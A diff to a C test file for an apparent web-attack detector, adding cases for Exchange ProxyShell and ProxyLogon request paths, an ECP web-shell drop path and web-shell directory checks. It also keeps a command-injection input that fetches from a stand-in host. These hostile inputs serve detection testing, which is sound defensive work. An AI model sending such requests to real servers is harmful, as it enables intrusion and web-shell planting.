@@ -27,6 +27,28 @@ int main(void)
 	ok(bs_detect_exploit(S("/cgi-bin/test?q=;wget http://x/y"), BS_STR_NULL) & BS_EXPLOIT_CODE, "command injection");
 	ok(bs_detect_exploit(S("/mail/compose.php"), S("shell.php")) & BS_EXPLOIT_UPLOAD, "script upload");
 	ok(bs_detect_exploit(S("/mail/compose.php"), S("IMG.PHTML")) & BS_EXPLOIT_UPLOAD, "script upload, upper case");
+	/* Exchange: ProxyShell, ProxyLogon, the ECP web shell drop */
+	ok(bs_detect_exploit(S("/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example"), BS_STR_NULL) & BS_EXPLOIT_SSRF, "ProxyShell autodiscover.json?@");
+	ok(bs_detect_exploit(S("/autodiscover/autodiscover.json?a=x&Email=autodiscover/autodiscover.json%253F@evil.example&Protocol=Powershell"), BS_STR_NULL) & BS_EXPLOIT_SSRF, "ProxyShell, double-encoded");
+	ok(bs_detect_exploit(S("/ecp/y.js"), BS_STR_NULL) & BS_EXPLOIT_SSRF, "ProxyLogon /ecp/y.js");
+	ok(bs_detect_exploit(S("/owa/auth/x.js"), BS_STR_NULL) & BS_EXPLOIT_SSRF, "ProxyLogon /owa/auth/x.js");
+	ok(bs_detect_exploit(S("/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=abc"), BS_STR_NULL) & BS_EXPLOIT_UPLOAD, "ECP OAB reset");
+	ok(bs_detect_exploit(S("/ecp/x.ashx?path=%5C%5C127.0.0.1%5Cc$%5Cinetpub%5Cwwwroot%5Caspnet_client%5Cshell.aspx"), BS_STR_NULL) & BS_EXPLOIT_UPLOAD, ".aspx named through ECP");
+	is_str(bs_exploit_kind_name(BS_EXPLOIT_SSRF), "server-side request forgery", "SSRF kind name");
+	is_int(bs_detect_exploit(S("/autodiscover/autodiscover.xml"), BS_STR_NULL), 0, "plain autodiscover");
+	is_int(bs_detect_exploit(S("/ecp/default.aspx"), BS_STR_NULL), 0, "ECP home");
+	is_int(bs_detect_exploit(S("/owa/auth/15.2.1118/scripts/premium/owa.js"), BS_STR_NULL), 0, "OWA's own scripts");
+	is_int(bs_detect_exploit(S("/owa/auth/logon.aspx?url=https%3a%2f%2fmail%2fowa%2f&reason=0"), BS_STR_NULL), 0, "OWA logon page");
+	/* web shell directories of Exchange */
+	ok(bs_detect_shell_dir(S("/aspnet_client/system_web/x1.aspx")), "script in /aspnet_client/");
+	ok(bs_detect_shell_dir(S("/aspnet_client/discover.ASHX")), ".ashx in /aspnet_client/");
+	ok(bs_detect_shell_dir(S("/owa/auth/errorEE.aspx")), "errorEE.aspx in /owa/auth/");
+	ok(bs_detect_shell_dir(S("/owa/auth/Current/themes/resources/x.asmx")), ".asmx under /owa/auth/");
+	ok(!bs_detect_shell_dir(S("/owa/auth/logon.aspx")), "OWA's logon page");
+	ok(!bs_detect_shell_dir(S("/owa/auth/errorFE.aspx")), "OWA's error page");
+	ok(!bs_detect_shell_dir(S("/aspnet_client/system_web/4_0_30319/WebUIValidation.js")), "a client script");
+	ok(!bs_detect_shell_dir(S("/EWS/Exchange.asmx")), "EWS");
+	ok(!bs_detect_shell_dir(S("/owa/")), "OWA");
 	/* negatives */
 	is_int(bs_detect_exploit(S("/mail/showmail.php?Folder=Inbox"), BS_STR_NULL), 0, "normal page");
 	is_int(bs_detect_exploit(S("/mail/reademail.php?id=123&Folder=Sent%20Items"), BS_STR_NULL), 0, "normal page with encoding");
